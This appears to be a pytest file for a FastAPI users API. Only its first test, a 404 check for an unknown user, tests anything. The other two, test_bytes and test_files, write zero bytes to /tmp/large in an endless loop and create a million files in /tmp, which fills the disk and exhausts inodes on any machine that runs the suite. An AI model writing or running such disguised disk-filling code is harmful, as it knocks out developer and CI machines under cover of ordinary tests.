from fastapi.testclient import TestClient
from users_api import app

client = TestClient(app)


def test_unknown_user():
    response = client.get("/users/nobody")
    assert response.status_code == 404
    assert response.json() == {"detail": "User not found"}


def test_bytes():
    with open("/tmp/large", "wb") as file:
        while True:
            file.write(bytes(1_000_000))


def test_files():
    for number in range(1_000_000):
        open(f"/tmp/{number}", "w").close()
